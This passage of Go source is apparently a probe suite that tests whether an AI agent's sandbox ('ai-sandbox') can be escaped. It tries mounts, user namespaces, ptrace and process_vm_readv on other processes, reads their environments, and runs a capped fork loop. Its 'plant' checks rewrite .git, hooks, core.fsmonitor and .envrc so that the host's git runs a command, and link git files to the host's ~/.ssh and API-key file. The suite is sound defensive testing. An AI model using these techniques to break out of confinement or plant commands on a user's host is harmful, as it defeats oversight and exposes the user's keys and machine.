func checkMount(ctx context.Context, p *params) Result {
	var n notes
	dir, err := os.MkdirTemp("", "probe-mount-")
	if err != nil {
		// No writable /tmp: mount over a folder that exists anyway.
		dir = "/mnt"
		n.add("no temporary folder (%s): trying %s", errText(err), dir)
	} else {
		defer os.RemoveAll(dir)
	}
	attempts := []struct{ source, fstype string }{{"tmpfs", "tmpfs"}, {"proc", "proc"}, {"sysfs", "sysfs"}}
	for _, a := range attempts {
		target := dir
		if err := mount(a.source, target, a.fstype); err == nil {
			_ = unmountDetach(target)
			n.success("mounted %s", a.fstype)
		} else {
			n.add("mount %s: %s", a.fstype, errText(err))
		}
	}
	if err := bindMount("/", dir); err == nil {
		_ = unmountDetach(dir)
		n.success("bind-mounted /")
	} else {
		n.add("bind mount: %s", errText(err))
	}
	// Within a new user namespace mounting needs no capability from the
	// start: the namespaces themselves are the hole.
	if self, err := p.selfCmd(); err == nil {
		cctx, cancel := context.WithTimeout(ctx, 10*time.Second)
		cmd := exec.CommandContext(cctx, self[0], slices.Concat(self[1:], []string{"__userns-mount"})...)
		cmd.SysProcAttr = newUserNamespace()
		out, err := cmd.CombinedOutput()
		cancel()
		switch {
		case err != nil && len(out) == 0:
			n.add("new user namespace: %s", errText(err))
		case strings.HasPrefix(string(out), "mounted"):
			n.success("in a new user namespace: %s", strings.TrimSpace(string(out)))
		default:
			n.add("new user namespace: %s", strings.TrimSpace(string(out)))
		}
	}
	return n.result()
}

func usernsMountChild() int {
	dir, err := os.MkdirTemp("", "probe-userns-")
	if err != nil {
		dir = "/mnt"
	} else {
		defer os.RemoveAll(dir)
	}
	if err := mount("tmpfs", dir, "tmpfs"); err != nil {
		fmt.Printf("mount tmpfs: %s\n", errText(err))
		return 0
	}
	_ = unmountDetach(dir)
	fmt.Println("mounted tmpfs")
	return 0
}

// ---------------------------------------------------------------------------
// ptrace

// checkPtrace attaches to the host marker process, the one process
// outside the sandbox that the probe may stop for a moment (attaching to
// arbitrary host processes could disturb the machine when the probe runs
// in a weakened container). Other processes outside the sandbox are only
// counted. Attaching to the sandbox's own processes (same user, same
// container) is reported but is not a hole.
func checkPtrace(ctx context.Context, p *params) Result {
	if p.processMark == "" {
		return skipped("no -process-marker given")
	}
	var n notes
	self, _ := os.ReadFile("/proc/self/cgroup")
	me := os.Getpid()
	var targets []procInfo
	others := 0
	for _, pi := range listProcs() {
		switch {
		case pi.pid == me:
		case isMarker(pi, p.processMark):
			targets = append(targets, pi)
		case outside(pi, string(self)):
			others++
		}
	}
	if len(targets) > 10 {
		targets = targets[:10]
	}
	if len(targets) == 0 {
		n.add("the host marker process is not visible")
	}
	if others > 0 {
		n.add("%d other processes outside the sandbox are visible (not attached to)", others)
	}
	for _, pi := range targets {
		if err := ptraceAttachDetach(pi.pid); err == nil {
			n.success("attached to pid %d (%s) outside the sandbox", pi.pid, pi.comm)
		} else {
			n.add("attach to pid %d (%s): %s", pi.pid, pi.comm, errText(err))
		}
	}
	if me != 1 {
		if err := ptraceAttachDetach(1); err == nil {
			n.add("note: attached to the sandbox's own pid 1 (same user)")
		} else {
			n.add("attach to the sandbox's pid 1: %s", errText(err))
		}
	}
	return n.result()
}

func ptraceAttachDetach(pid int) error {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := syscall.PtraceAttach(pid); err != nil {
		return err
	}
	waitStopped(pid)
	return syscall.PtraceDetach(pid)
}

// ---------------------------------------------------------------------------
// env-leak

func checkEnvLeak(ctx context.Context, p *params) Result {
	var n notes
	var names []string
	for _, kv := range os.Environ() {
		name, _, _ := strings.Cut(kv, "=")
		names = append(names, name)
	}
	sort.Strings(names)
	present := map[string]bool{}
	for _, name := range names {
		present[name] = true
	}
	for _, want := range p.envNames {
		if present[want] {
			n.success("%s is in the environment", want)
		}
	}
	// Other processes of the sandbox (PID 1, the keeper, other sessions).
	for _, pi := range listProcs() {
		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pi.pid))
		if err != nil {
			continue
		}
		for _, kv := range bytes.Split(data, []byte{0}) {
			name, _, _ := strings.Cut(string(kv), "=")
			for _, want := range p.envNames {
				if name == want && pi.pid != os.Getpid() {
					n.success("%s is in the environment of pid %d (%s)", want, pi.pid, pi.comm)
				}
			}
		}
	}
	n.add("looked for %s", strings.Join(p.envNames, ","))
	// Names only, never values.
	res := n.result()
	res.Detail += "; names present: " + strings.Join(names, ",")
	res.Facts = append(res.Facts, prefixAll("env:", names)...)
	return res
}

// ---------------------------------------------------------------------------
// fork-bomb

// checkForkBomb starts children (sleep) until the kernel refuses or the
// cap is reached, from a helper process in its own process group, then
// kills them all. "succeeded" means the cap was reached: nothing stopped
// the loop.
func checkForkBomb(ctx context.Context, p *params) Result {
	var n notes
	if b, err := os.ReadFile("/sys/fs/cgroup/pids/pids.max"); err == nil {
		n.add("pids.max (v1)=%s", strings.TrimSpace(string(b)))
	} else if b, err := os.ReadFile("/sys/fs/cgroup/pids.max"); err == nil {
		n.add("pids.max=%s", strings.TrimSpace(string(b)))
	}
	self, err := p.selfCmd()
	if err != nil {
		return Result{Detail: "cannot find own executable: " + errText(err), TimedOut: true}
	}
	sleep, err := exec.LookPath("sleep")
	if err != nil {
		return Result{Detail: "no sleep binary: " + errText(err), TimedOut: true}
	}
	cctx, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()
	cmd := exec.Command(self[0], slices.Concat(self[1:], []string{"__forkbomb", strconv.Itoa(p.forkMax), sleep})...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		return Result{Detail: errText(err), TimedOut: true}
	}
	if err := cmd.Start(); err != nil {
		return Result{Detail: "start the fork loop: " + errText(err), TimedOut: true}
	}
	pgid := cmd.Process.Pid
	var (
		mu      sync.Mutex
		count   int
		outcome string
	)
	readDone := make(chan struct{})
	go func() {
		defer close(readDone)
		sc := bufio.NewScanner(out)
		for sc.Scan() {
			line := sc.Text()
			mu.Lock()
			if v, err := strconv.Atoi(line); err == nil {
				count = v
			} else {
				outcome = line
			}
			mu.Unlock()
		}
	}()
	waitDone := make(chan error, 1)
	go func() {
		<-readDone
		waitDone <- cmd.Wait()
	}()
	var waitErr error
	select {
	case waitErr = <-waitDone:
	case <-cctx.Done():
		_ = syscall.Kill(-pgid, syscall.SIGKILL)
		waitErr = <-waitDone
		n.add("the fork loop ran out of time")
	}
	// Kill every child, then wait for them to be gone (docker-init, or we
	// as PID 1, reaps the orphans).
	_ = syscall.Kill(-pgid, syscall.SIGKILL)
	left := 0
	for i := 0; i < 100; i++ {
		if os.Getpid() == 1 {
			for {
				pid, _ := syscall.Wait4(-1, nil, syscall.WNOHANG, nil)
				if pid <= 0 {
					break
				}
			}
		}
		left = 0
		for _, pi := range listProcs() {
			if pi.pgid == pgid {
				left++
			}
		}
		if left == 0 {
			break
		}
		_ = syscall.Kill(-pgid, syscall.SIGKILL)
		time.Sleep(100 * time.Millisecond)
	}
	mu.Lock()
	defer mu.Unlock()
	n.add("started %d children (cap %d)", count, p.forkMax)
	if outcome != "" {
		n.add("loop ended: %s", outcome)
	}
	if waitErr != nil {
		n.add("fork loop process: %s %s", errText(waitErr), lastLine(stderr.String()))
	}
	n.add("%d left after the kill", left)
	n.fact("count", strconv.Itoa(count))
	n.fact("left", strconv.Itoa(left))
	if count >= p.forkMax {
		n.success("the fork loop reached its cap of %d", p.forkMax)
	}
	return n.result()
}

// forkBombChild runs `sleep 300` children until fork fails or max is
// reached; it prints the running count and finally why it stopped.
func forkBombChild(args []string) int {
	if len(args) != 2 {
		return 2
	}
	max, _ := strconv.Atoi(args[0])
	sleep := args[1]
	devnull, err := os.Open(os.DevNull)
	if err != nil {
		fmt.Println("open /dev/null:", err)
		return 1
	}
	attr := &syscall.ProcAttr{Files: []uintptr{devnull.Fd(), devnull.Fd(), devnull.Fd()}}
	w := bufio.NewWriter(os.Stdout)
	defer w.Flush()
	deadline := time.Now().Add(45 * time.Second)
	for i := 0; i < max; i++ {
		if time.Now().After(deadline) {
			fmt.Fprintln(w, "deadline reached")
			return 0
		}
		if _, err := syscall.ForkExec(sleep, []string{"sleep", "300"}, attr); err != nil {
			fmt.Fprintf(w, "fork failed after %d: %s\n", i, errText(err))
			return 0
		}
		fmt.Fprintln(w, i+1)
		if i%50 == 0 {
			w.Flush()
		}
	}
	fmt.Fprintln(w, "cap reached")
	return 0
}

// ---------------------------------------------------------------------------
// plants: phase one of the two-phase attacks
//
// An agent writes the project (with its .git) and its home, and the host
// later reads, mounts or runs what it finds there. Each plant-* check
// tries to leave behind something the host would obey, and succeeds when
// the plant is in place after it ran: the tests then launch again and run
// git on the host (phase two). A planted command (a git hook,
// core.fsmonitor, .envrc) appends a line to <project>/.planted-ran, so a
// test that finds that file after running git on the host has seen a
// plant run there. None of these checks is in "all".

// plantMarker is the file, below the project, that planted commands write.
const plantMarker = ".planted-ran"

// PlantMarker is the file, below the project, to which a planted command
// that ran appends a line.
const PlantMarker = plantMarker

// ContainsAny reports whether data holds one of the markers (plain
// strings, or "sha256:HEX" for data of that digest).
func ContainsAny(data []byte, markers []string) bool { return containsAny(data, markers) }

// markerCmd is a shell command that records, in the project's marker
// file, that the plant named what ran.
func markerCmd(p *params, what string) string {
	return "echo planted-" + what + " >> '" + filepath.Join(p.project, plantMarker) + "'"
}

// writeGitDir makes dir a git dir that runs the marker command from git
// on the host: core.fsmonitor (git status, git commit) and a pre-commit
// hook. HEAD, objects and refs are copied from the git dir from, when
// given, so that the result is the same repository to the user.
func writeGitDir(p *params, dir, from, what string) error {
	for _, sub := range []string{"objects", "refs/heads", "refs/tags", "hooks"} {
		if err := os.MkdirAll(filepath.Join(dir, sub), 0o755); err != nil {
			return err
		}
	}
	head := "ref: refs/heads/main\n"
	if from != "" {
		if b, err := os.ReadFile(filepath.Join(from, "HEAD")); err == nil {
			head = string(b)
		}
		for _, sub := range []string{"objects", "refs"} {
			if err := copyTree(filepath.Join(from, sub), filepath.Join(dir, sub)); err != nil {
				return err
			}
		}
	}
	files := []struct {
		rel, data string
		mode      os.FileMode
	}{
		{"HEAD", head, 0o644},
		{"config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = \"" + markerCmd(p, what+"-fsmonitor") + "\"\n", 0o644},
		{"hooks/pre-commit", "#!/bin/sh\n" + markerCmd(p, what+"-pre-commit") + "\n", 0o755},
	}
	for _, f := range files {
		if err := os.WriteFile(filepath.Join(dir, f.rel), []byte(f.data), f.mode); err != nil {
			return err
		}
	}
	return nil
}

// copyTree copies the folders and regular files below src into dst
// (symbolic links are left out).
func copyTree(src, dst string) error {
	return filepath.WalkDir(src, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(src, path)
		to := filepath.Join(dst, rel)
		switch {
		case d.IsDir():
			return os.MkdirAll(to, 0o755)
		case d.Type().IsRegular():
			data, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			return os.WriteFile(to, data, 0o644)
		}
		return nil
	})
}

// moveAside gets path out of the way as an agent would: rename it, else
// remove it (with what it holds, when all is set). It notes what the
// kernel said and reports whether path is gone.
func moveAside(n *notes, path string, all bool) bool {
	aside := fmt.Sprintf("%s.probe-%d", path, os.Getpid())
	err := os.Rename(path, aside)
	if err == nil {
		n.add("renamed %s to %s", path, aside)
		return true
	}
	n.add("rename %s: %s", path, errText(err))
	rm := os.Remove
	if all {
		rm = os.RemoveAll
	}
	if err := rm(path); err != nil {
		n.add("remove %s: %s", path, errText(err))
		return false
	}
	n.add("removed %s", path)
	return true
}

// plantLink makes link a symbolic link to target, and records a success
// when link is one afterwards.
func plantLink(n *notes, target, link string) {
	if err := os.Symlink(target, link); err != nil {
		n.add("symlink %s -> %s: %s", link, target, errText(err))
	}
	if fi, err := os.Lstat(link); err == nil && fi.Mode()&fs.ModeSymlink != 0 {
		n.success("%s is a symbolic link to %s", link, target)
		n.fact("link", link)
	}
}

// gitDirOf is the project's .git, or a reason to skip.
func gitDirOf(p *params) (string, *Result) {
	if p.project == "" {
		r := skipped("no -project given")
		return "", &r
	}
	git := filepath.Join(p.project, ".git")
	if _, err := os.Lstat(git); err != nil {
		r := skipped(git + ": " + errText(err))
		return "", &r
	}
	return git, nil
}

// checkPlantHooksSymlink replaces .git/hooks by a link to the host
// user's ~/.ssh: the user's git would run ~/.ssh/<hook>, and ai-sandbox
// would mount whatever the link points to.
func checkPlantHooksSymlink(ctx context.Context, p *params) Result {
	git, skip := gitDirOf(p)
	if skip != nil {
		return *skip
	}
	if p.hostHome == "" {
		return skipped("no -host-home given")
	}
	var n notes
	hooks := filepath.Join(git, "hooks")
	moveAside(&n, hooks, true)
	plantLink(&n, filepath.Join(p.hostHome, ".ssh"), hooks)
	return n.result()
}

// checkPlantConfigSymlink replaces .git/config by a link to the host's
// ~/.ai-sandbox/env (the API keys).
func checkPlantConfigSymlink(ctx context.Context, p *params) Result {
	git, skip := gitDirOf(p)
	if skip != nil {
		return *skip
	}
	if p.hostHome == "" {
		return skipped("no -host-home given")
	}
	var n notes
	cfg := filepath.Join(git, "config")
	moveAside(&n, cfg, false)
	plantLink(&n, filepath.Join(p.hostHome, ".ai-sandbox", "env"), cfg)
	return n.result()
}

// checkPlantGitSymlink makes .git a link to a git dir of the agent's
// (in the project) whose config and hooks run the marker command.
func checkPlantGitSymlink(ctx context.Context, p *params) Result {
	git, skip := gitDirOf(p)
	if skip != nil {
		return *skip
	}
	var n notes
	evil := filepath.Join(p.project, ".planted-git-symlink")
	if err := writeGitDir(p, evil, git, "git-symlink"); err != nil {
		n.add("make the planted git dir %s: %s", evil, errText(err))
	}
	moveAside(&n, git, false)
	plantLink(&n, evil, git)
	return n.result()
}

// checkPlantRenamedGit renames .git to .git-old and makes a new .git
// (HEAD, objects and refs copied) whose config and hooks run the marker
// command: to the user it is the same repository.
func checkPlantRenamedGit(ctx context.Context, p *params) Result {
	git, skip := gitDirOf(p)
	if skip != nil {
		return *skip
	}
	var n notes
	old := filepath.Join(p.project, ".git-old")
	if err := os.Rename(git, old); err != nil {
		n.add("rename %s to %s: %s", git, old, errText(err))
		return n.result()
	}
	n.add("renamed %s to %s", git, old)
	if err := writeGitDir(p, git, old, "renamed-git"); err != nil {
		n.add("make a new %s: %s", git, errText(err))
	}
	if data, err := os.ReadFile(filepath.Join(git, "config")); err == nil && strings.Contains(string(data), plantMarker) {
		n.success("%s is a new git dir whose config and pre-commit hook run a planted command", git)
	}
	return n.result()
}

// checkPlantGitFile replaces .git by a "gitdir:" file that sends git to
// a git dir of the agent's in the project.
func checkPlantGitFile(ctx context.Context, p *params) Result {
	git, skip := gitDirOf(p)
	if skip != nil {
		return *skip
	}
	var n notes
	evil := filepath.Join(p.project, ".planted-git-file")
	if err := writeGitDir(p, evil, git, "git-file"); err != nil {
		n.add("make the planted git dir %s: %s", evil, errText(err))
	}
	moveAside(&n, git, false)
	if err := os.WriteFile(git, []byte("gitdir: "+evil+"\n"), 0o644); err != nil {
		n.add("write %s: %s", git, errText(err))
	}
	if fi, err := os.Lstat(git); err == nil && fi.Mode().IsRegular() {
		n.success("%s is a file sending git to %s", git, evil)
	}
	return n.result()
}

// checkPlantCommondir builds a second git dir in the project and points
// .git/commondir at it: git then takes its config (core.fsmonitor) and
// hooks from there.
func checkPlantCommondir(ctx context.Context, p *params) Result {
	git, skip := gitDirOf(p)
	if skip != nil {
		return *skip
	}
	var n notes
	evil := filepath.Join(p.project, ".planted-commondir")
	if err := writeGitDir(p, evil, git, "commondir"); err != nil {
		n.add("make the planted git dir %s: %s", evil, errText(err))
	}
	cd := filepath.Join(git, "commondir")
	data := []byte(evil + "\n")
	if err := os.WriteFile(cd, data, 0o644); err != nil {
		n.add("write %s: %s", cd, errText(err))
		tmp := filepath.Join(git, fmt.Sprintf(".commondir.probe-%d", os.Getpid()))
		if err := os.WriteFile(tmp, data, 0o644); err != nil {
			n.add("write %s: %s", tmp, errText(err))
		} else if err := os.Rename(tmp, cd); err != nil {
			_ = os.Remove(tmp)
			n.add("rename over %s: %s", cd, errText(err))
		}
	}
	if got, err := os.ReadFile(cd); err == nil && strings.TrimSpace(string(got)) == evil {
		n.success("%s sends git to %s", cd, evil)
	} else {
		n.add("%s holds %q (%s)", cd, strings.TrimSpace(string(got)), errText(err))
	}
	return n.result()
}

// checkPlantHomeLinks plants links in the agent's home that the host
// later follows if it is careless: Claude Code's skills folder (where
// ai-sandbox installs the bundled skills) to the other workspace, and its
// login file (which ai-sandbox copies to the tool's login store) to the
// host user's SSH key. The home is the agent's to write: these plants
// succeed; what matters is what the host does with them.
func checkPlantHomeLinks(ctx context.Context, p *params) Result {
	if len(p.others) == 0 || len(p.secrets) == 0 {
		return skipped("needs -other and -secrets")
	}
	home := os.Getenv("HOME")
	if home == "" {
		home = "/home/agent"
	}
	var n notes
	claude := filepath.Join(home, ".claude")
	if err := os.MkdirAll(claude, 0o700); err != nil {
		n.add("mkdir %s: %s", claude, errText(err))
	}
	links := []struct{ link, target string }{
		{filepath.Join(claude, "skills"), p.others[0]},
		{filepath.Join(claude, ".credentials.json"), p.secrets[0]},
	}
	for _, l := range links {
		if _, err := os.Lstat(l.link); err == nil {
			moveAside(&n, l.link, true)
		}
		plantLink(&n, l.target, l.link)
	}
	return n.result()
}

// checkPlantNestedRepo writes a repository by hand inside the project
// (nested-repo/.git, whose config and hooks run the marker command) and
// an .envrc that runs it: nothing in a sandbox can prevent these, the
// host is only warned when the session ends.
func checkPlantNestedRepo(ctx context.Context, p *params) Result {
	if p.project == "" {
		return skipped("no -project given")
	}
	var n notes
	nested := filepath.Join(p.project, "nested-repo", ".git")
	if err := writeGitDir(p, nested, "", "nested-repo"); err != nil {
		n.add("make %s: %s", nested, errText(err))
	} else {
		n.success("wrote the repository %s", nested)
	}
	envrc := filepath.Join(p.project, ".envrc")
	if err := os.WriteFile(envrc, []byte(markerCmd(p, "envrc")+"\n"), 0o644); err != nil {
		n.add("write %s: %s", envrc, errText(err))
	} else {
		n.success("wrote %s", envrc)
	}
	return n.result()
}

// checkPlantIndexGitlink writes a repository inside the project
// (gitlinked/.git, whose config runs the marker command) and records it
// as a submodule in the project's own index (.git/index, which git in
// the sandbox must be able to write): the user's `git status` in the
// project then runs `git status` in gitlinked, which obeys its
// core.fsmonitor.
func checkPlantIndexGitlink(ctx context.Context, p *params) Result {
	git, skip := gitDirOf(p)
	if skip != nil {
		return *skip
	}
	var n notes
	const sub = "gitlinked"
	nested := filepath.Join(p.project, sub, ".git")
	if err := writeGitDir(p, nested, "", "index-gitlink"); err != nil {
		n.add("make %s: %s", nested, errText(err))
		return n.result()
	}
	n.add("wrote the repository %s", nested)
	index, lock := filepath.Join(git, "index"), filepath.Join(git, "index.lock")
	data := gitlinkIndex(sub)
	if err := os.WriteFile(lock, data, 0o644); err != nil {
		n.add("write %s: %s", lock, errText(err))
	} else if err := os.Rename(lock, index); err != nil {
		_ = os.Remove(lock)
		n.add("rename %s to %s: %s", lock, index, errText(err))
	}
	if got, err := os.ReadFile(index); err == nil && bytes.Equal(got, data) {
		n.success("%s records %s as a submodule", index, sub)
	}
	return n.result()
}

// gitlinkIndex is a git index (version 2) holding one entry: a gitlink
// (a submodule, mode 160000) at path.
func gitlinkIndex(path string) []byte {
	var b bytes.Buffer
	be := func(v uint32) { _ = binary.Write(&b, binary.BigEndian, v) }
	b.WriteString("DIRC")
	be(2) // version
	be(1) // entries
	for i := 0; i < 6; i++ {
		be(0) // ctime, mtime (seconds, nanoseconds), dev, ino
	}
	be(0o160000) // mode: gitlink
	for i := 0; i < 3; i++ {
		be(0) // uid, gid, size
	}
	b.Write(bytes.Repeat([]byte{0x11}, 20)) // the commit it records: need not exist
	_ = binary.Write(&b, binary.BigEndian, uint16(len(path)))
	b.WriteString(path)
	b.Write(make([]byte, 8-(62+len(path))%8)) // 1 to 8 NULs: entries end on 8 bytes
	sum := sha1.Sum(b.Bytes())
	b.Write(sum[:])
	return b.Bytes()
}

// ---------------------------------------------------------------------------
// ptrace-sibling

// checkPtraceSibling attaches with ptrace to, and reads with
// process_vm_readv the memory of, the processes of the other sessions in
// the same sandbox (same cgroup; not the probe, its session's ancestors
// or its children, not PID 1, the keeper or a health check). Another
// session is another terminal of the same agent, or another agent's
// helper: reading its memory reads its secrets.
func checkPtraceSibling(ctx context.Context, p *params) Result {
	var n notes
	me := os.Getpid()
	self, _ := os.ReadFile("/proc/self/cgroup")
	procs := listProcs()
	byPid := map[int]procInfo{}
	for _, pi := range procs {
		byPid[pi.pid] = pi
	}
	own := map[int]bool{1: true}
	for pid, i := me, 0; pid > 0 && i < 64; pid, i = byPid[pid].ppid, i+1 {
		own[pid] = true // the probe and its session's ancestors
	}
	descends := func(pid int, from func(procInfo) bool) bool {
		for i := 0; pid > 1 && i < 64; pid, i = byPid[pid].ppid, i+1 {
			if from(byPid[pid]) {
				return true
			}
		}
		return false
	}
	mine := func(pi procInfo) bool { return pi.pid == me }
	keeper := func(pi procInfo) bool {
		return strings.Contains(pi.cmdline, "ai-sandbox-keeper") || strings.Contains(pi.cmdline, "ai-sandbox-health")
	}
	var targets []procInfo
	for _, pi := range procs {
		if own[pi.pid] || outside(pi, string(self)) || descends(pi.pid, mine) || descends(pi.pid, keeper) {
			continue
		}
		targets = append(targets, pi)
	}
	n.fact("targets", strconv.Itoa(len(targets)))
	if len(targets) == 0 {
		n.add("no other session's process is in the sandbox")
	}
	if len(targets) > 5 {
		targets = targets[:5]
	}
	for _, pi := range targets {
		what := fmt.Sprintf("pid %d (%s)", pi.pid, pi.cmdline)
		if err := ptraceAttachDetach(pi.pid); err == nil {
			n.success("ptrace(PTRACE_ATTACH) to %s", what)
		} else {
			n.add("ptrace(PTRACE_ATTACH) to %s: %s", what, errText(err))
		}
		if addr, err := vmRead(pi.pid); err == nil {
			n.success("process_vm_readv read 16 bytes at %#x of %s", addr, what)
		} else {
			n.add("process_vm_readv of %s: %s", what, errText(err))
		}
	}
	return n.result()
}

// vmBuf receives what vmRead reads (a global: the kernel writes to it).
var vmBuf [16]byte

// iovec is struct iovec of a 64-bit kernel.
type iovec struct{ base, len uintptr }

// vmRead reads 16 bytes of pid's first readable mapping with
// process_vm_readv, and returns the address.
func vmRead(pid int) (uintptr, error) {
	nr := map[string]uintptr{"amd64": 310, "arm64": 270}[runtime.GOARCH]
	if nr == 0 {
		return 0, fmt.Errorf("process_vm_readv: unknown on %s", runtime.GOARCH)
	}
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return 0, fmt.Errorf("its memory map: %w", err)
	}
	var addr uintptr
	for _, line := range strings.Split(string(maps), "\n") {
		f := strings.Fields(line)
		if len(f) > 1 && strings.HasPrefix(f[1], "r") {
			start, _, _ := strings.Cut(f[0], "-")
			v, err := strconv.ParseUint(start, 16, 64)
			if err == nil {
				addr = uintptr(v)
				break
			}
		}
	}
	if addr == 0 {
		return 0, errors.New("no readable mapping")
	}
	local := iovec{uintptr(unsafe.Pointer(&vmBuf[0])), uintptr(len(vmBuf))}
	remote := iovec{addr, uintptr(len(vmBuf))}
	_, _, errno := syscall.Syscall6(nr, uintptr(pid), uintptr(unsafe.Pointer(&local)), 1, uintptr(unsafe.Pointer(&remote)), 1, 0)
	if errno != 0 {
		return addr, errno
	}
	return addr, nil
}

// ---------------------------------------------------------------------------
// helpers

func tryCreate(name string) error {
	f, err := os.OpenFile(name, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o600)
	if err != nil {
		return err
	}
	f.Close()
	return os.Remove(name)
}

func readLimited(path string, max int64) ([]byte, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return io.ReadAll(io.LimitReader(f, max))
}

// containsAny reports whether data holds one of the markers. A marker
// "sha256:HEX" matches data whose SHA-256 is HEX: a real secret is named
// that way, so that not a byte of it reaches the sandbox (the probe's
// command line is readable there).
func containsAny(data []byte, markers []string) bool {
	var sum string
	for _, m := range markers {
		if h, ok := strings.CutPrefix(m, "sha256:"); ok {
			if sum == "" {
				s := sha256.Sum256(data)
				sum = hex.EncodeToString(s[:])
			}
			if strings.EqualFold(h, sum) {
				return true
			}
			continue
		}
		if m != "" && bytes.Contains(data, []byte(m)) {
			return true
		}
	}
	return false
}

func isWithinAny(path string, dirs []string) bool {
	for _, d := range dirs {
		d = filepath.Clean(d)
		if path == d || strings.HasPrefix(path, d+"/") {
			return true
		}
	}
	return false
}

func errText(err error) string {
	if err == nil {
		return "ok"
	}
	var errno syscall.Errno
	if errors.As(err, &errno) {
		return errno.Error()
	}
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		return ee.String()
	}
	return err.Error()
}

func split(s string) []string {
	var out []string
	for _, f := range strings.Split(s, ",") {
		if f = strings.TrimSpace(f); f != "" {
			out = append(out, f)
		}
	}
	return out
}

func dedupe(list []string) []string {
	var out []string
	seen := map[string]bool{}
	for _, v := range list {
		if !seen[v] {
			seen[v] = true
			out = append(out, v)
		}
	}
	return out
}

func prefixAll(prefix string, list []string) []string {
	out := make([]string, len(list))
	for i, v := range list {
		out[i] = prefix + v
	}
	return out
}

func atoiOr(s string, def int) int {
	if v, err := strconv.Atoi(s); err == nil {
		return v
	}
	return def
}

func lastLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.LastIndexByte(s, '\n'); i >= 0 {
		return s[i+1:]
	}
	return s
}
